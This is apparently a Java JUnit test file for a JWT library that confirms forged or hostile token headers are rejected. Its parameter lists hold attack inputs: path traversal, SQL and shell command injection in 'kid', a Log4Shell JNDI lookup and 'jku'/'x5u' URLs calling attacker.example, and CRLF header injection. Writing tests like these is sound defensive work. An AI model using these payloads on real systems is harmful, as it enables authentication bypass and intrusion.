package io.github.tallystick.jwt;

import static io.github.tallystick.jwt.InvalidJwtException.Reason.ALGORITHM;
import static io.github.tallystick.jwt.InvalidJwtException.Reason.CLAIM_MISSING;
import static io.github.tallystick.jwt.InvalidJwtException.Reason.CRITICAL;
import static io.github.tallystick.jwt.InvalidJwtException.Reason.MALFORMED;
import static io.github.tallystick.jwt.InvalidJwtException.Reason.SIGNATURE;
import static io.github.tallystick.jwt.InvalidJwtException.Reason.TYPE;
import static io.github.tallystick.jwt.InvalidJwtException.Reason.UNKNOWN_KEY;
import static io.github.tallystick.jwt.JwsAlgorithm.HS256;
import static io.github.tallystick.jwt.Refusals.assertRefused;
import static io.github.tallystick.jwt.Tokens.PAYLOAD;
import static io.github.tallystick.jwt.Tokens.SECRET;
import static io.github.tallystick.jwt.Tokens.encode;
import static io.github.tallystick.jwt.Tokens.signed;
import static io.github.tallystick.jwt.Tokens.verifier;
import static java.nio.charset.StandardCharsets.US_ASCII;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Attacks by header parameters other than the algorithm. */
class HeaderAttackTest {
  private static final byte[] ATTACKERS_SECRET =
      "0123456789abcdef0123456789abcdef".getBytes(US_ASCII);

  private static final String ATTACKERS_KEY = encode(ATTACKERS_SECRET);

  // RFC 8725 §3.10: "kid" may be an injection into a path, a query, a command or a log.
  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../../../dev/null",
        "..\\\\..\\\\nul",
        "/proc/sys/kernel/randomize_va_space",
        "file:///etc/hostname",
        "http://attacker.example/key",
        "' UNION SELECT 'x' -- ",
        "a' OR '1'='1",
        "a; sleep 10",
        "|id",
        "$(id)",
        "${jndi:ldap://attacker.example/x}",
        "{\\\"$gt\\\":\\\"\\\"}",
        "a\\r\\nSet-Cookie: x=y",
        "*",
        "%61",
        "a\\u0000",
        "a ",
        "A",
        "\uff41",
        "\\uFEFFa",
        ""
      })
  void rejectsKeyIdInjection(String keyId) {
    String token = withParameter("\"kid\":\"" + keyId + '"');

    assertRefused(JwtVerifier.builder(key("a")), token, UNKNOWN_KEY);
    assertRefused(JwtVerifier.builder(keys("a", "b")), token, UNKNOWN_KEY);
  }

  @ParameterizedTest
  @ValueSource(strings = {"null", "0", "1.5", "true", "[]", "[\"a\"]", "{}", "{\"a\":\"a\"}"})
  void rejectsKeyIdThatIsNoString(String keyId) {
    String token = withParameter("\"kid\":" + keyId);

    assertRefused(verifier(), token, MALFORMED);
    assertRefused(JwtVerifier.builder(keys("a", "b")), token, MALFORMED);
  }

  @Test
  void rejectsHugeKeyId() {
    String token = withParameter("\"kid\":\"" + "a".repeat(4_000) + '"');

    assertRefused(JwtVerifier.builder(keys("a", "b")), token, UNKNOWN_KEY);
  }

  // A key of that ID is there, but the MAC is by another: keys are not tried in turn.
  @Test
  void rejectsMacByAnotherKeyOfTheSet() {
    VerificationKeySet keys =
        VerificationKeySet.of(
            VerificationKey.hmac(HS256, ATTACKERS_SECRET).withKeyId("tenant-1"),
            VerificationKey.hmac(HS256, SECRET).withKeyId("tenant-2"));
    String header = encode("{\"alg\":\"HS256\",\"kid\":\"tenant-2\"}");
    String forged = signed(header + '.' + encode(PAYLOAD), HS256, ATTACKERS_SECRET);

    assertRefused(JwtVerifier.builder(keys), forged, SIGNATURE);
  }

  @Test
  void rejectsAbsentKeyIdWhereThereAreSeveral() {
    assertRefused(JwtVerifier.builder(keys("a", "b")), Tokens.valid(), UNKNOWN_KEY);
  }

  // CVE-2018-0114, CVE-2026-27962; RFC 8725 §3.10: what "jwk", "jku" and "x5u" say is the
  // attacker's.
  @ParameterizedTest
  @ValueSource(
      strings = {
        "\"jwk\":{\"kty\":\"oct\",\"k\":\"%s\"}",
        "\"jwk\":{\"kty\":\"oct\",\"alg\":\"HS256\",\"kid\":\"a\",\"k\":\"%s\"},\"kid\":\"a\"",
        "\"jwk\":\"%s\"",
        "\"jwks\":{\"keys\":[{\"kty\":\"oct\",\"k\":\"%s\"}]}",
        "\"k\":\"%s\"",
        "\"key\":\"%s\"",
        "\"x5c\":[\"%s\"]",
        "\"jku\":\"data:application/json,{\\\"keys\\\":[{\\\"k\\\":\\\"%s\\\"}]}\"",
        "\"jku\":\"https://attacker.example/jwks.json\"",
        "\"jku\":\"file:///dev/zero\"",
        "\"x5u\":\"https://attacker.example/cert.pem\"",
        "\"epk\":{\"kty\":\"oct\",\"k\":\"%s\"}"
      })
  void rejectsKeyThatTheTokenBrings(String parameter) {
    String header = "{\"alg\":\"HS256\"," + parameter.formatted(ATTACKERS_KEY) + '}';
    String forged = signed(encode(header) + '.' + encode(PAYLOAD), HS256, ATTACKERS_SECRET);

    assertRefused(verifier(), forged, SIGNATURE);
  }

  @Test
  void neverLooksAtKeyThatTheTokenBrings() {
    String token =
        withParameter("\"jwk\":null,\"jku\":1,\"x5u\":{},\"x5c\":\"\",\"x5t\":[],\"x5t#S256\":0");

    assertThat(verifier().build().verify(token).algorithm()).isEqualTo(HS256);
  }

  // CVE-2025-59420, CVE-2026-32597: "crit" is ignored. RFC 7515 §4.1.11: "If any of the listed
  // extension Header Parameters are not understood and supported by the recipient, then the JWS is
  // invalid."
  @ParameterizedTest
  @ValueSource(
      strings = {
        "\"crit\":[\"mfa\"],\"mfa\":true",
        "\"crit\":[\"exp\"],\"exp\":1",
        "\"crit\":[\"b64\"],\"b64\":true",
        "\"crit\":[\"alg\"]",
        "\"crit\":[\"absent\"]",
        "\"crit\":[]",
        "\"crit\":[null]",
        "\"crit\":[[\"mfa\"]]",
        "\"crit\":\"mfa\"",
        "\"crit\":null",
        "\"crit\":false",
        "\"crit\":{}",
        "\"crit\":{\"mfa\":true}",
        "\"\\u0063rit\":[\"mfa\"]"
      })
  void rejectsCritical(String crit) {
    assertRefused(verifier(), withParameter(crit), CRITICAL);
  }

  // RFC 7797 §3, §6: to a reader who does not know "b64", another payload is signed.
  @Test
  void rejectsUnencodedPayload() {
    String header = "{\"alg\":\"HS256\",\"b64\":false,\"crit\":[\"b64\"]}";

    assertRefused(verifier(), signed(encode(header) + ".e30"), CRITICAL);
    assertRefused(verifier(), signed(encode(header) + '.' + encode(PAYLOAD)), CRITICAL);
    assertRefused(verifier(), signed(encode(header) + '.' + PAYLOAD), MALFORMED);
    assertRefused(verifier(), withParameter("\"b64\":false"), CRITICAL);
  }

  // RFC 7515 appendix F: the payload is left out of the text, but not of the MAC.
  @Test
  void rejectsDetachedPayload() {
    String[] parts = Tokens.valid().split("\\.");

    assertRefused(verifier(), parts[0] + ".." + parts[2], SIGNATURE);
    assertRefused(verifier(), signed(parts[0] + '.'), MALFORMED);
  }

  // RFC 7519 §5.2, §7.2 step 8: a token in a token.
  @ParameterizedTest
  @ValueSource(strings = {"\"cty\":\"JWT\"", "\"cty\":\"jwt\"", "\"cty\":\"application/jwt\""})
  void rejectsNestedJwt(String contentType) {
    String header = "{\"alg\":\"HS256\"," + contentType + '}';

    assertRefused(verifier(), Tokens.withHeader(header), TYPE);
    assertRefused(verifier(), Tokens.of(header, Tokens.valid()), TYPE);
  }

  @Test
  void rejectsNestedJwtThatDoesNotSaySo() {
    assertRefused(verifier(), Tokens.withPayload(Tokens.valid()), MALFORMED);
    assertRefused(verifier(), Tokens.withPayload('"' + Tokens.valid() + '"'), MALFORMED);
  }

  // RFC 8725 §2.8, §3.11: a token for one purpose is offered for another.
  @ParameterizedTest
  @ValueSource(
      strings = {
        "logout+jwt",
        "dpop+jwt",
        "JWE",
        "JWT\\u0000",
        "J\\u0000WT",
        " JWT",
        "JWT ",
        "JWT,at+jwt",
        "application/x/JWT",
        "application/",
        "/JWT",
        "\uff2a\uff37\uff34",
        ""
      })
  void rejectsTokenOfAnotherKind(String type) {
    String token = withParameter("\"typ\":\"" + type + '"');

    assertRefused(verifier(), token, TYPE);
    assertRefused(verifier().type("at+jwt"), token, TYPE);
  }

  // To String.equalsIgnoreCase, the Kelvin sign is a k, the long s an s, the dotless i an i.
  @ParameterizedTest
  @ValueSource(strings = {"\u212ai-s+jwt", "k\u0131-s+jwt", "k\u0130-s+jwt", "ki-\u017f+jwt"})
  void rejectsTypeThatOnlyFoldsToTheExpected(String type) {
    assertRefused(verifier().type("ki-s+jwt"), withParameter("\"typ\":\"" + type + '"'), TYPE);
    assertRefused(verifier().type("KI-S+JWT"), withParameter("\"typ\":\"" + type + '"'), TYPE);
  }

  // RFC 7519 §5.3: claims in the header are copies for who cannot read the payload.
  @Test
  void neverTakesClaimFromTheHeader() {
    String header = "{\"alg\":\"HS256\",\"iss\":\"shop\",\"exp\":4102444800}";

    assertRefused(verifier(), Tokens.of(header, "{}"), CLAIM_MISSING, Claim.EXPIRATION_TIME);
    assertRefused(
        verifier().issuer("shop"), Tokens.withHeader(header), CLAIM_MISSING, Claim.ISSUER);
  }

  // CVE-2022-3102: a JWE passes for a JWS. CVE-2023-52428, CVE-2023-51775: PBES2 with "p2c" rounds.
  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"alg\":\"dir\",\"enc\":\"A256GCM\"}",
        "{\"alg\":\"dir\",\"enc\":\"A256GCM\",\"zip\":\"DEF\"}",
        "{\"alg\":\"PBES2-HS256+A128KW\",\"enc\":\"A128GCM\",\"p2s\":\"AAAA\",\"p2c\":2147483647}"
      })
  void rejectsEncryptedToken(String header) {
    assertRefused(verifier(), encode(header) + "..AAAA.AAAA.AAAA", MALFORMED);
    assertRefused(verifier(), encode(header) + ".AAAA.AAAA.AAAA.AAAA", MALFORMED);
    assertRefused(verifier(), Tokens.withHeader(header), ALGORITHM);
  }

  private static VerificationKey key(String keyId) {
    return VerificationKey.hmac(HS256, SECRET).withKeyId(keyId);
  }

  private static VerificationKeySet keys(String one, String other) {
    return VerificationKeySet.of(key(one), key(other));
  }

  private static String withParameter(String parameter) {
    return Tokens.withHeader("{\"alg\":\"HS256\"," + parameter + '}');
  }
}
